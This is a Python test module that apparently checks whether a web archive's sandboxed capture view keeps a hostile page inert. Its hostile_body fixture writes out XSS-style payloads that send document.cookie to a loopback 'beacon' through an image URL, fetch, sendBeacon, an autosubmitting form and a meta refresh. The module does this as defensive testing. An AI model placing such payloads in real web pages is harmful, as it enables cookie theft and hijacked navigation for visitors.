"""A hostile capture viewed in headless Chromium: nothing runs, nothing loads, nothing leaks.

The capture (our own page, written with WarcFileSet, gzip-encoded as portals often send it)
tries everything a page can do against its reader: inline and external scripts, an
autosubmitting form, a meta refresh, images, CSS, @import, fonts, frames, objects, media,
prefetch, a favicon. Every URL it names is on a second loopback server (the "beacon") that
records every request it receives. Served by `portal-archive serve`, the view must run no
script, navigate nowhere, send the beacon nothing, and leave the archive's own cookies and
localStorage out of reach.
"""

from __future__ import annotations

import threading
import urllib.request
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from .browser_support import RecordedPage
from .capture_support import build_archive as build_capture_archive
from .capture_support import gzipped_page, uuid
from .conftest import served_archive

TITLE = "Trang thử nghiệm độc hại"
SECRET = "bi-mat-cua-kho-luu-tru"


class Beacon:
    """A loopback HTTP server that records every request (method and path)."""

    def __init__(self) -> None:
        requests = self.requests = []

        class Handler(BaseHTTPRequestHandler):
            def _record(self) -> None:
                requests.append(f"{self.command} {self.path}")
                body = b"document.title = 'PWNED-EXTERNAL';"
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)

            do_GET = do_POST = do_HEAD = do_OPTIONS = _record

            def log_message(self, *args: object) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> Beacon:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


def hostile_body(beacon: str) -> tuple[str, str]:
    """(head, body) of a page that tries every way to run code or call the beacon."""
    script = (
        "document.title = 'PWNED'; alert('xss');"
        "try { localStorage.setItem('pwned', document.cookie); } catch (e) {}"
        f"new Image().src = '{beacon}/script-image?c=' + encodeURIComponent(document.cookie);"
        f"fetch('{beacon}/fetch'); navigator.sendBeacon('{beacon}/send-beacon', 'x');"
        f"top.location = '{beacon}/top-location';"
    )
    head = (
        f'<meta http-equiv="refresh" content="0; url={beacon}/meta-refresh">'
        f'<link rel="stylesheet" href="{beacon}/style.css">'
        f'<link rel="prefetch" href="{beacon}/prefetch">'
        f'<link rel="preload" as="image" href="{beacon}/preload.png">'
        f'<link rel="icon" href="{beacon}/favicon.ico">'
        f'<style>@import url("{beacon}/import.css"); body {{ background: url("{beacon}/bg.png") }}'
        f' @font-face {{ font-family: X; src: url("{beacon}/font.woff2") }} h1 {{ font-family: X }}'
        "</style>"
        f'<script src="{beacon}/external.js"></script>'
        f"<script>{script}</script>"
    )
    body = (
        "<p>Trang này do chúng tôi tự viết để thử chế độ xem an toàn.</p>"
        f'<img src="{beacon}/img.png" alt="ảnh">'
        f'<img srcset="{beacon}/srcset.png 1x" alt="ảnh">'
        f"<div style=\"background-image: url('{beacon}/inline-style.png')\">Nội dung</div>"
        f'<iframe src="{beacon}/frame"></iframe>'
        f'<object data="{beacon}/object"></object>'
        f'<video poster="{beacon}/poster.png" src="{beacon}/video.mp4" autoplay muted></video>'
        f'<svg><image href="{beacon}/svg.png" width="10" height="10"/></svg>'
        f'<form id="gui" action="{beacon}/form" method="post"><input name="x" value="1">'
        '<input type="submit"></form>'
        "<script>document.getElementById('gui').submit();</script>"
        f'<a ping="{beacon}/ping" href="{beacon}/link">liên kết</a>'
    )
    return head, body


@pytest.fixture(scope="module")
def beacon() -> Iterator[Beacon]:
    with Beacon() as server:
        yield server


@pytest.fixture(scope="module")
def site(beacon: Beacon, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
    head, body = hostile_body(beacon.url)
    page = gzipped_page("http://127.0.0.1:9/tin/doc-hai.html", TITLE, body, head)
    folder = tmp_path_factory.mktemp("hostile-capture")
    db, [capture] = build_capture_archive(folder, [page])
    with served_archive(db) as base:
        yield {"base": base, "id": uuid(capture.record_id)}


@pytest.fixture
def page(browser, site: dict, request: pytest.FixtureRequest) -> Iterator[RecordedPage]:  # type: ignore[no-untyped-def]
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    # The archive site's own secrets: a cookie and a localStorage entry on its origin.
    context.add_cookies([{"name": "phien", "value": SECRET, "url": site["base"]}])
    recorded = RecordedPage(context.new_page())
    recorded.page.goto(site["base"] + "/-/versions.json")
    recorded.page.evaluate(f"localStorage.setItem('kho', '{SECRET}')")
    try:
        yield recorded
    finally:
        recorded.screenshot(request.node.name)
        context.close()


def settle(page: RecordedPage) -> None:
    """Long enough for a meta refresh (0 s), scripts, loads and a form submission."""
    page.page.wait_for_load_state("load")
    page.page.wait_for_timeout(2500)


def probe(frame) -> dict:  # type: ignore[no-untyped-def]
    """What the document can reach, evaluated by the test (not by the page)."""
    return frame.evaluate(
        """() => {
            const attempt = (f) => { try { return f(); } catch (e) { return e.name; } };
            return {
                title: document.title,
                origin: self.origin,
                cookie: attempt(() => document.cookie),
                storage: attempt(() => localStorage.getItem('kho')),
            };
        }"""
    )


def assert_archive_untouched(page: RecordedPage, site: dict, beacon: Beacon) -> None:
    assert beacon.requests == [], beacon.requests
    assert page.dialogs == [], page.dialogs
    p = page.page
    p.goto(site["base"] + "/-/versions.json")
    assert p.evaluate("localStorage.getItem('kho')") == SECRET
    assert p.evaluate("localStorage.getItem('pwned')") is None
    assert p.evaluate("document.cookie") == f"phien={SECRET}"


def test_view_opened_directly_runs_nothing_and_loads_nothing(site, page, beacon) -> None:  # type: ignore[no-untyped-def]
    p = page.page
    navigations: list[str] = []
    p.on(
        "framenavigated",
        lambda frame: navigations.append(frame.url) if frame == p.main_frame else None,
    )
    url = f"{site['base']}/-/captures/{site['id']}/view"
    response = p.goto(url)
    assert response is not None and response.status == 200
    settle(page)
    assert p.url == url
    assert navigations == [url], navigations  # no refresh, form, or script navigation
    seen = probe(p.main_frame)
    assert seen["title"] == TITLE  # neither script changed it
    assert seen["origin"] == "null"  # sandboxed: an opaque origin, not the archive's
    assert seen["cookie"] == "SecurityError" and seen["storage"] == "SecurityError"
    assert "Trang này do chúng tôi tự viết" in p.inner_text("body")  # the page is shown
    assert_archive_untouched(page, site, beacon)


def test_capture_page_frames_the_view_inert(site, page, beacon) -> None:  # type: ignore[no-untyped-def]
    p = page.page
    url = f"{site['base']}/-/captures/{site['id']}"
    p.goto(url)
    settle(page)
    assert p.url == url
    assert "Bản lưu gốc" in p.inner_text("h1")
    assert "chế độ an toàn" in p.inner_text("#capture-banner")
    # The view's own <iframe> to the beacon is blocked (a Chromium error page, no request).
    [frame] = [f for f in p.frames if f.parent_frame == p.main_frame]
    assert frame.url == f"{url}/view"
    nested = [f.url for f in p.frames if f.parent_frame == frame]
    assert all(not u.startswith("http") for u in nested), nested
    seen = probe(frame)
    assert seen["title"] == TITLE and seen["origin"] == "null"
    assert seen["cookie"] == "SecurityError" and seen["storage"] == "SecurityError"
    assert TITLE in frame.inner_text("h1")
    assert p.title().startswith("Bản lưu gốc")  # the archive page's title, untouched
    assert_archive_untouched(page, site, beacon)


def test_article_page_links_the_capture_and_the_view_stays_inert(site, page, beacon) -> None:  # type: ignore[no-untyped-def]
    p = page.page
    p.goto(f"{site['base']}/thunghiem/articles/1")
    assert "Bản lưu gốc" in p.inner_text("#capture")
    p.click("#capture a.archive-capture-view")
    p.wait_for_url(f"**/-/captures/{site['id']}/view")
    settle(page)
    assert p.url.endswith(f"/-/captures/{site['id']}/view")
    assert probe(p.main_frame)["title"] == TITLE
    assert_archive_untouched(page, site, beacon)


def test_beacon_does_record_requests(beacon: Beacon) -> None:
    """The beacon works: a plain fetch of one of its URLs is recorded (so zero means zero)."""
    before = len(beacon.requests)
    with urllib.request.urlopen(beacon.url + "/check", timeout=10) as response:
        assert response.status == 200
    assert beacon.requests[before:] == ["GET /check"]
    beacon.requests.clear()
